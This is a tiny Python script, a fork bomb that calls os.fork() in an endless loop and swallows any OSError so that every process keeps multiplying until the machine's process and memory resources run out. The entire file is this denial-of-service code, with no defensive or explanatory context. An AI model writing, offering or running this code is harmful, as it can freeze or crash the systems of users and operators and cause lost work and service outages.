"""Forks without end."""
# Never ends by itself.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
